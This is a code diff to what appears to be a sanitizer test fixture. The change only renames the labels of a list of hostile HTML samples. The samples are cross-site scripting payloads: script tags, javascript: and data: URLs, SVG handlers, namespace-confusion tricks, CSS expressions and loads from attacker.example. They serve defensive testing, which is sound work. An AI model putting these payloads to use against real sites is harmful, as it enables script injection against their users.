@@ -1,4 +1,4 @@
-/** Each tries to run something, to fetch something, or to lead away: what it does, and how. `attacked` is their mark. */
+/** Each tries to execute or load something, or to lead away: what it does, and how. `attacked` is their marker. */
 export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
   ["a script", "<script>parent.attacked = 1</script>"],
   ["a script from elsewhere", '<script src="https://attacker.example/x.js"></script>'],
@@ -12,21 +12,21 @@ export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
     "an image from elsewhere",
     '<img src="https://attacker.example/pixel.png" srcset="https://attacker.example/2.png 2x">',
   ],
-  ["a handler without blanks", "<table><tr><td/onclick=parent.attacked=1>x</td></tr></table>"],
+  ["a handler without spaces", "<table><tr><td/onclick=parent.attacked=1>x</td></tr></table>"],
   [
-    "an address of script",
+    "a javascript: URL",
     '<a href="javascript:parent.attacked=1">x</a><a href="java\tscript:parent.attacked=1">y</a>',
   ],
-  ["an address of data", '<a href="data:text/html,<script>parent.attacked=1</script>">x</a>'],
+  ["a data: URL", '<a href="data:text/html,<script>parent.attacked=1</script>">x</a>'],
   [
     "a frame",
     '<iframe srcdoc="<script>top.attacked = 1</script>"></iframe><iframe src="https://attacker.example"></iframe>',
   ],
   [
-    "a vector image",
+    "an SVG image",
     '<svg onload="parent.attacked = 1"><script>parent.attacked = 1</script><animate onbegin="parent.attacked=1" attributeName=x dur=1s /></svg>',
   ],
-  ["another name space", '<svg></p><style><a id="</style><img src=1 onerror=parent.attacked=1>">'],
+  ["another namespace", '<svg></p><style><a id="</style><img src=1 onerror=parent.attacked=1>">'],
   [
     "formulas",
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.attacked=1&gt;">',
@@ -47,10 +47,10 @@ export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
     '<style>@import "https://attacker.example/x.css"; * { display: none }</style><link rel=stylesheet href="https://attacker.example/x.css">',
   ],
   [
-    "addresses in styles",
+    "URLs in styles",
     '<p style="background:url(https://attacker.example/p.png);background-image:\\75rl(https://attacker.example/q.png);behavior:url(x)">x</p>',
   ],
-  ["a style over everything", '<div style="position:fixed;inset:0;z-index:9999;opacity:0">x</div>'],
+  ["a style covering everything", '<div style="position:fixed;inset:0;z-index:9999;opacity:0">x</div>'],
   ["an expression", '<p style="width:expression(parent.attacked=1)">x</p>'],
   [
     "a template",
@@ -66,7 +66,7 @@ export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
   ],
   ["an end of the frame's document", "</body></html><script>parent.attacked = 1</script>"],
   ["a comment", "<!--><img src=x onerror=parent.attacked=1>--><p>x</p>"],
-  ["an attribute that is not closed", '<p title="<img src=x onerror=parent.attacked=1>x</p>" >y</p>'],
+  ["an unclosed attribute", '<p title="<img src=x onerror=parent.attacked=1>x</p>" >y</p>'],
   [
     "a marker",
     '<sup class="footnote" data-marker="a" onclick="parent.attacked=1"><img src=x onerror=parent.attacked=1>a</sup>',
